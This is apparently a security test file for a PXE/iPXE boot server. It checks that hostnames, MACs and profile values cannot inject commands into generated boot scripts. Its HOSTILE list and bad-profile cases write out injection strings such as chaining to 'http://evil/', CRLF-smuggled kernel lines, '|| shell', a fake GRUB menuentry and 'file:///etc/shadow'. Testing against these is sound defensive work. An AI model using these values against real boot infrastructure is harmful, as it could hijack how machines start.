// The renderers: golden files (test/fixtures/boot, reviewed by hand; regenerate with
// BOOTHERD_UPDATE_GOLDEN=1 and review the diff), and hostile strings from clients and profiles.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import fc from 'fast-check';
import { renderIpxe } from '../../../src/boot/render/ipxe.ts';
import { renderGrub, grubQuote } from '../../../src/boot/render/grub.ts';
import { pxelinuxMacName, renderPxelinux } from '../../../src/boot/render/pxelinux.ts';
import { httpBootUrl, IPXE_SCRIPT_TEMPLATE } from '../../../src/boot/render/url.ts';
import { RenderError, canonicalMac, canonicalUuid, safeText } from '../../../src/boot/render/text.ts';
import { DEFAULT_PLAN_SETTINGS, plan } from '../../../src/boot/planner.ts';
import type { LinuxPayload, Payload } from '../../../src/boot/planner.ts';
import type { ProfileSpec } from '../../../src/inventory/types.ts';

const fixtures = new URL('../../fixtures/boot/', import.meta.url);
function golden(name: string, actual: string): void {
  const file = new URL(name, fixtures);
  if (process.env['BOOTHERD_UPDATE_GOLDEN'] === '1') writeFileSync(file, actual);
  assert.equal(actual, readFileSync(file, 'utf8'), `${name} differs from the golden file`);
}

const linux: LinuxPayload = { kind: 'linux', profile: 'debian', kernel: 'debian/linux', initrd: ['debian/initrd.gz', 'http://198.18.0.1:8080/extra/fw.cpio'], cmdline: 'console=ttyS0 auto=true priority=critical' };
const profiles = new Map<string, ProfileSpec>([
  ['debian', { kind: 'linux', description: 'Debian 12 installer', kernel: 'debian/linux', initrd: ['debian/initrd.gz'], cmdline: 'console=ttyS0' }],
  ['rescue', { kind: 'chain', chain: 'http://198.18.0.1:8080/rescue.ipxe' }],
]);
const menu = plan({ arch: 'bios' }, { host: undefined, profiles }, { ...DEFAULT_PLAN_SETTINGS, menu: { title: 'Lab', timeoutS: 5, default: 'debian' } }).payload;
const wait: Payload = { kind: 'wait', pollS: 30, message: 'This machine waits for approval' };
const host = { hostname: 'node01', mac: '52:54:00:12:34:56' };
const selfUrl = IPXE_SCRIPT_TEMPLATE;

describe('golden files', () => {
  const cases: [string, Payload][] = [
    ['linux', linux],
    ['menu', menu],
    ['wait', wait],
    ['local', { kind: 'local' }],
    ['chain', { kind: 'chain', profile: 'rescue', target: 'http://198.18.0.1:8080/rescue.ipxe' }],
  ];
  for (const [name, payload] of cases) {
    it(`iPXE ${name}`, () => golden(`${name}.ipxe`, renderIpxe(payload, { host, selfUrl })));
    it(`grub.cfg ${name}`, () => golden(`${name}.grub.cfg`, renderGrub(payload, { host, selfPath: 'grub/grub.cfg-01-52-54-00-12-34-56' })));
    if (name !== 'chain') it(`pxelinux.cfg ${name}`, () => golden(`${name}.pxelinux.cfg`, renderPxelinux(payload, { host })));
  }
});

describe('what a booting machine needs', () => {
  it('the iPXE script loads the kernel with initrd=<name> for EFI-stub kernels, then each initrd, then boots', () => {
    const s = renderIpxe(linux, { host, selfUrl });
    assert.match(s, /^#!ipxe\n/);
    assert.match(s, /^kernel \/debian\/linux initrd=initrd.gz initrd=fw.cpio console=ttyS0 auto=true priority=critical \|\| goto failed$/m);
    assert.match(s, /^initrd \/debian\/initrd.gz \|\| goto failed$/m);
    assert.match(s, /^initrd http:\/\/198.18.0.1:8080\/extra\/fw.cpio \|\| goto failed$/m);
    assert.match(s, /^boot \|\| goto failed$/m);
  });
  it('files can live under another HTTP prefix', () => {
    assert.match(renderIpxe(linux, { host, selfUrl, filesBase: '/files' }), /^kernel \/files\/debian\/linux /m);
  });
  it('the iPXE menu has the default and the timeout in milliseconds', () => {
    const s = renderIpxe(menu, { host, selfUrl });
    assert.match(s, /^choose --default item0 --timeout 5000 target && goto \$\{target\} \|\| goto item0$/m);
    assert.match(s, /^item item0 Debian 12 installer$/m);
    assert.match(s, /^item item2 Boot from local disk$/m);
  });
  it('a menu with timeout 0 waits for a choice', () => {
    if (menu.kind !== 'menu') return assert.fail();
    assert.doesNotMatch(renderIpxe({ ...menu, timeoutS: 0 }, { host, selfUrl }), /--timeout/);
    assert.match(renderGrub({ ...menu, timeoutS: 0 }, { host, selfPath: 'x' }), /^set timeout=-1$/m);
  });
  it('pxelinux and GRUB find their per-host files by MAC', () => {
    assert.equal(pxelinuxMacName('52:54:00:AB:cd:EF'), '01-52-54-00-ab-cd-ef');
  });
  it('GRUB gets URLs as (http,host:port)/path and refuses https', () => {
    assert.match(renderGrub(linux, { host, selfPath: 'x' }), /^ {2}initrd '\/debian\/initrd.gz' '\(http,198.18.0.1:8080\)\/extra\/fw.cpio'$/m);
    assert.throws(() => renderGrub({ ...linux, kernel: 'https://x/linux' }, { host, selfPath: 'x' }), RenderError);
  });
  it('the HTTP Boot URL joins the base and the file', () => {
    assert.equal(httpBootUrl('http://198.18.0.1:8080/', 'ipxe.efi'), 'http://198.18.0.1:8080/ipxe.efi');
    assert.equal(httpBootUrl('http://198.18.0.1:8080', 'http://10.0.0.1/x.efi'), 'http://10.0.0.1/x.efi');
    assert.throws(() => httpBootUrl('ftp://x', 'ipxe.efi'), RenderError);
    assert.throws(() => httpBootUrl('http://x', 'a b.efi'), RenderError);
  });
});

// Strings a client controls: option 12 hostname, option 60/77 vendor and user class, query values.
const HOSTILE = [
  'node01\n#!ipxe\nshell',
  'x || shell',
  'x && chain http://evil/',
  '${net0/ip}',
  "'; exit; echo '",
  '<script>alert(1)</script>',
  'PXEClient:Arch:00000:UNDI:002001\r\nkernel http://evil/',
  'a\u0000b',
  '\u202eevil',
  '}\nmenuentry pwn {\n  linux /evil\n}',
];

function assertInert(text: string, benign: string): void {
  // The hostile string may only change the header comment (and the menu's host line); everything
  // else is byte for byte what a benign host gets, and nothing injected can expand or chain.
  const a = text.split('\n');
  const b = benign.split('\n');
  assert.equal(a.length, b.length, 'the hostile string added or removed lines');
  for (let i = 0; i < a.length; i++) {
    if (a[i] === b[i]) continue;
    assert.ok(a[i]!.startsWith('# bootherd:') || a[i]!.startsWith('item --gap -- Host ') || a[i]!.startsWith('echo '), `line ${i} changed: ${a[i]}`);
    assert.doesNotMatch(a[i]!, /\$\{|\|\||&&|['"`\\]/);
  }
}

describe('hostile client strings', () => {
  const renders = (h: { hostname?: string; mac?: string }): string[] => {
    const payloads: Payload[] = [linux, menu, wait, { kind: 'local' }];
    return payloads.flatMap((p) => [renderIpxe(p, { host: h, selfUrl }), renderGrub(p, { host: h, selfPath: 'x' }), renderPxelinux(p, { host: h })]);
  };
  const benign = renders({ hostname: 'node01', mac: '52:54:00:12:34:56' });
  for (const s of HOSTILE) {
    it(`hostname ${JSON.stringify(s)} cannot inject a command`, () => {
      renders({ hostname: s, mac: '52:54:00:12:34:56' }).forEach((t, i) => assertInert(t, benign[i]!));
      renders({ hostname: 'node01', mac: s }).forEach((t, i) => assertInert(t, benign[i]!));
    });
  }
  it('any string as hostname or MAC leaves every script structurally unchanged', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (s) => {
      renders({ hostname: s, mac: s }).forEach((t, i) => assertInert(t, benign[i]!));
    }), { numRuns: 200 });
  });
  it('query values are canonicalised or refused', () => {
    assert.equal(canonicalMac('52-54-00-AB-CD-EF'), '52:54:00:ab:cd:ef');
    for (const s of HOSTILE) assert.equal(canonicalMac(s), undefined);
    assert.equal(canonicalUuid(''), undefined);
    assert.equal(canonicalUuid('00000000-0000-0000-0000-000000000000'), undefined);
    assert.equal(canonicalUuid('4C4C4544-0000-1111-2222-333344445555'), '4c4c4544-0000-1111-2222-333344445555');
    for (const s of HOSTILE) assert.doesNotMatch(safeText(s), /[\n\r${}'"`|&;<>\\#]/);
  });
});

describe('unsafe profile values are refused with the field named', () => {
  const bad: [string, Partial<LinuxPayload>][] = [
    ['cmdline with a newline', { cmdline: 'quiet\nshell' }],
    ['cmdline with ${', { cmdline: 'ip=${net0/ip}' }],
    ['cmdline chaining', { cmdline: 'quiet || shell' }],
    ['kernel with a space', { kernel: 'debian/linux shell' }],
    ['kernel with a quote', { kernel: "debian/li'nux" }],
    ['kernel with a foreign scheme', { kernel: 'file:///etc/shadow' }],
    ['initrd with a newline', { initrd: ['a\nb'] }],
  ];
  for (const [what, patch] of bad) {
    it(what, () => {
      const p = { ...linux, ...patch };
      for (const r of [() => renderIpxe(p, { host, selfUrl }), () => renderGrub(p, { host, selfPath: 'x' }), () => renderPxelinux(p, { host })]) {
        assert.throws(r, (e: unknown) => e instanceof RenderError && e.code === 'BH_BOOT_UNSAFE_VALUE' && e.message.includes('profile debian'));
      }
    });
  }
  it('GRUB quoting keeps a quote inside one word', () => {
    assert.equal(grubQuote("it's"), "'it'\\''s'");
    if (menu.kind !== 'menu') return assert.fail();
    const m = { ...menu, items: menu.items.map((i) => ({ ...i, label: "Bob's {menu}" })) };
    assert.match(renderGrub(m, { host, selfPath: 'x' }), /^menuentry 'Bob_s _menu_' \{$/m);
  });
});
